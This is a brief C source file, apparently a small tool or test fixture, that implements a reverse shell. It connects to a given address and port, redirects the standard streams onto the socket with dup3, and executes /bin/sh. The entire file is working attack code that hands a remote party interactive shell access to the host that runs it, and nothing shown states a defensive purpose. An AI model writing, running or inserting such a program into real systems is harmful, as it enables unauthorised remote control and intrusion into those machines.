// SPDX-License-Identifier: Apache-2.0
// dup3_shell ADDRESS PORT: connects, puts the socket on the standard streams with dup3, becomes a
// shell.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc != 3) return 1;
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[2]))};
  if (inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) return 1;
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connect(fd, (struct sockaddr*)&to, sizeof(to)) < 0) {
    perror("connect");
    return 1;
  }
  for (int stream = 0; stream < 3; ++stream)
    if (dup3(fd, stream, 0) < 0) return 1;
  execl("/bin/sh", "sh", (char*)NULL);
  return 1;
}
